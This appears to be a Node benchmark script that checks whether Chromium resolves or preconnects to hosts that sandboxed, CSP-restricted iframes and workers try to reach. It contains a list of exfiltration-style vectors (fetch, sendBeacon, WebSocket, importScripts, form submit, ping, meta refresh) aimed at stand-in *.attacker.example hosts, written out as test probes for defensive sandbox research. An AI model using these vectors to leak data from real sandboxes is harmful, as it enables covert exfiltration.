// Issue 23: which page-level layers stop Chromium's DNS lookups and TCP preconnects for
// navigations a sandboxed srcdoc frame attempts and CSP refuses (none does; `worker` and
// `static` are what the canvas now does: component code in a worker, a frame that draws
// without running agent code — see ARCHITECTURE.md and e2e/netlog.e2e.ts). A measurement
// (prints, asserts nothing), kept so the figures in ARCHITECTURE.md can be re-run:
//
//   cd frontend && node bench/preconnect-layers.mjs VARIANT      (EXTRA_ARGS="--flag …" for Chromium)
//
// VARIANT: baseline   frames like the canvas's (sandbox="allow-scripts", the frame CSP in a meta)
//          cspattr    the same with the CSP also as the iframe's `csp` attribute (embedded enforcement)
//          dnsoff     baseline with x-dns-prefetch-control: off in the page and the frame
//          worker     the frame runs the attempts in a dedicated blob: Worker (worker-src blob:)
//          static     a frame without allow-scripts holding <a href> and <img src> only
// For each *.attacker.example host, the net log events that name it (is_preconnect marks the
// preconnect); "no event" means neither a DNS lookup nor a connection was attempted.
import { chromium } from 'playwright-core';
import { createServer } from 'node:http';
import { readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

const variant = process.argv[2] ?? 'baseline';
const dnsOff = variant === 'dnsoff' ? '<meta http-equiv="x-dns-prefetch-control" content="off">' : '';
const nonce = 'n0nce';
const csp = (extra = '') => [
  "default-src 'none'", `script-src 'nonce-${nonce}' blob:`, "style-src 'unsafe-inline'", 'img-src data: blob:',
  "connect-src 'none'", "frame-src 'none'", "child-src 'none'", `worker-src ${extra.includes('worker') ? 'blob:' : "'none'"}`,
  "object-src 'none'", "form-action 'none'", "base-uri 'none'",
].join('; ');

const vectors = {
  iframe: `const f=document.createElement('iframe'); f.src='http://iframe-HOST.attacker.example/'; document.body.append(f);`,
  href: `location.href='http://href-HOST.attacker.example/';`,
  replace: `location.replace('http://replace-HOST.attacker.example/');`,
  meta: `const m=document.createElement('meta'); m.httpEquiv='refresh'; m.content='0;url=http://meta-HOST.attacker.example/'; document.head.append(m);`,
  download: `const a=document.createElement('a'); a.href='http://download-HOST.attacker.example/x'; a.download='x'; document.body.append(a); a.click();`,
  ping: `const a=document.createElement('a'); a.href='#top'; a.ping='http://ping-HOST.attacker.example/'; document.body.append(a); a.click();`,
  window_open: `window.open('http://open-HOST.attacker.example/');`,
  form: `const f=document.createElement('form'); f.action='http://form-HOST.attacker.example/'; document.body.append(f); f.submit();`,
};
const workerVectors = `
  try { fetch('http://wfetch-HOST.attacker.example/').catch(()=>{}); } catch {}
  try { importScripts('http://wimport-HOST.attacker.example/x.js'); } catch {}
  try { new WebSocket('ws://wws-HOST.attacker.example/'); } catch {}
  try { new EventSource('http://wes-HOST.attacker.example/'); } catch {}
  try { new Worker('http://wworker-HOST.attacker.example/w.js'); } catch {}
  try { navigator.sendBeacon && navigator.sendBeacon('http://wbeacon-HOST.attacker.example/'); } catch {}
  try { import('http://wimportdyn-HOST.attacker.example/m.js').catch(()=>{}); } catch {}
  try { new XMLHttpRequest().open('GET','http://wxhr-HOST.attacker.example/'); } catch {}
  try { self.location = 'http://wloc-HOST.attacker.example/'; } catch {}
  postMessage('done');
`;

function frameDoc(name, code) {
  if (variant === 'worker') {
    const body = workerVectors.replaceAll('HOST', name);
    return `<!doctype html><meta http-equiv="Content-Security-Policy" content="${csp('worker')}"><script nonce="${nonce}">
      const w = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(body)}], {type:'text/javascript'})));
      w.onmessage = () => parent.postMessage('${name} ran', '*');
      w.onerror = (e) => parent.postMessage('${name} worker error ' + e.message, '*');
    </script>`;
  }
  if (variant === 'static') {
    // no scripts at all: what a render-only document could contain, if it were not filtered
    return `<!doctype html><meta http-equiv="Content-Security-Policy" content="${csp()}"><a href="http://static-a-${name}.attacker.example/">a</a><img src="http://static-img-${name}.attacker.example/x.png">`;
  }
  return `<!doctype html>${dnsOff}<meta http-equiv="Content-Security-Policy" content="${csp()}"><body><script nonce="${nonce}">parent.postMessage('${name} ran','*'); ${code.replaceAll('HOST', name)}</script>`;
}

const page = () => {
  const frames = (variant === 'worker' || variant === 'static' ? ['w'] : Object.keys(vectors)).map((name) => {
    const attrs = variant === 'cspattr' ? ` csp="${csp().replaceAll('"', '&quot;')}"` : '';
    const sandbox = variant === 'static' ? '' : 'allow-scripts';
    return `<iframe sandbox="${sandbox}"${attrs} srcdoc="${frameDoc(name, vectors[name] ?? '').replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"></iframe>`;
  });
  return `<!doctype html><html><head><meta charset=utf-8></head><body><div id=log></div>${frames.join('\n')}
  <script>addEventListener('message', (e) => { document.getElementById('log').append(String(e.data) + '; '); });</script></body></html>`;
};

const server = createServer((request, response) => {
  response.writeHead(200, { 'content-type': 'text/html', 'content-security-policy': "frame-src 'none'; object-src 'none'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'", 'referrer-policy': 'no-referrer', ...(dnsOff ? { 'x-dns-prefetch-control': 'off' } : {}) }).end(page());
});
await new Promise((done) => server.listen(0, '127.0.0.1', done));
const log = join(tmpdir(), `wright-preconnect-${variant}.json`);
rmSync(log, { force: true });
const browser = await chromium.launch({
  executablePath: process.env.CHROMIUM_PATH ?? '/usr/bin/chromium', headless: true,
  args: ['--headless', '--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--disable-quic', `--log-net-log=${log}`, '--net-log-capture-mode=Everything', ...(process.env.EXTRA_ARGS ? process.env.EXTRA_ARGS.split(' ') : [])],
});
const p = await browser.newPage();
await p.goto(`http://127.0.0.1:${server.address().port}/`);
await p.waitForTimeout(3000);
console.log('page log:', await p.locator('#log').textContent().catch(() => '(page gone)'));
await browser.close();
server.close();
const text = readFileSync(log, 'utf8').trim();
const net = JSON.parse(text.endsWith('}') ? text : text.replace(/,$/, '') + ']}');
const types = Object.fromEntries(Object.entries(net.constants.logEventTypes).map(([k, v]) => [v, k]));
const sources = Object.fromEntries(Object.entries(net.constants.logSourceType).map(([k, v]) => [v, k]));
const hosts = new Map();
for (const event of net.events) {
  const text = JSON.stringify(event.params ?? {});
  const match = text.match(/([a-z0-9-]+)\.attacker\.example/);
  if (!match) continue;
  const key = match[1];
  const entry = hosts.get(key) ?? new Set();
  entry.add(`${types[event.type]}@${sources[event.source.type]}${text.includes('"is_preconnect":true') ? ' (is_preconnect)' : ''}`);
  hosts.set(key, entry);
}
for (const [host, events] of hosts) console.log(host, '->', [...events].join(', '));
if (!hosts.size) console.log('no event names *.attacker.example');
